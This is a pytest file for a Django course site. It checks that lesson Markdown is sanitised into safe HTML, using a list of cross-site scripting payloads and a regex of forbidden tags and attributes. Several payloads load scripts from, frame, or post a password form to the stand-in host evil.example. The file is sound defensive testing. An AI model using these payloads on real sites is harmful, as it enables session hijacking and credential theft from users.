"""Lesson Markdown becomes safe HTML: none of these attacks survives the sanitiser."""

import re

import pytest
from django.core.exceptions import ValidationError

from courses.rendering import render_markdown, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<img src=x onerror="alert(1)" alt="x">',
    '<img src="javascript:alert(1)" alt="x">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](jav&#x61;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<a href="/help/" onclick="alert(1)">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    '<body onload="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">x</details>',
    '<img src="x" alt="x" srcset="javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "![x](javascript:alert(1))",
    "<<script>script>alert(1)<</script>/script>",
]

FORBIDDEN = re.compile(
    r"<\s*(script|style|iframe|object|embed|form|input|meta|link|base|svg|math|details|body|noscript)\b"
    r"|\bon[a-z]+\s*="
    r"|(javascript|vbscript|data)\s*:"
    r"|\bstyle\s*=|\bsrcset\s*=",
    re.IGNORECASE,
)


def test_there_are_at_least_25_attacks():
    assert len(ATTACKS) >= 25


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_does_not_survive(attack):
    html = render_markdown(attack)
    assert not FORBIDDEN.search(html), html


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.startswith("<")])
def test_html_attack_does_not_survive_the_sanitiser_alone(attack):
    assert not FORBIDDEN.search(sanitise(attack))


def test_ordinary_markdown_keeps_its_meaning():
    html = render_markdown("## Talk often\n\n- **Stay calm**\n- Call [Netsafe](tel:0508638723)\n\nSee [help](/help/).")
    assert "<h2>Talk often</h2>" in html
    assert "<strong>Stay calm</strong>" in html
    assert 'href="tel:0508638723"' in html
    assert 'href="/help/"' in html


def test_links_get_noopener_noreferrer():
    html = render_markdown("[Netsafe](https://netsafe.org.nz/report)")
    assert 'rel="noopener noreferrer"' in html


@pytest.mark.parametrize(
    "scheme_url",
    ["https://netsafe.org.nz/", "http://example.nz/", "mailto:help@netsafe.org.nz", "tel:111", "/help/", "../x/"],
)
def test_allowed_urls_survive(scheme_url):
    assert f'href="{scheme_url}"' in render_markdown(f"[x]({scheme_url})")


def test_image_without_alt_text_is_refused_naming_the_field():
    with pytest.raises(ValidationError) as error:
        render_markdown("Look: ![](/static/img/diagram.png)", field="body")
    assert "body" in error.value.message_dict
    assert "alt text" in error.value.message_dict["body"][0]


def test_image_with_alt_text_is_kept():
    html = render_markdown("![A phone](/static/img/phone.png)")
    assert "<img" in html
    assert 'alt="A phone"' in html
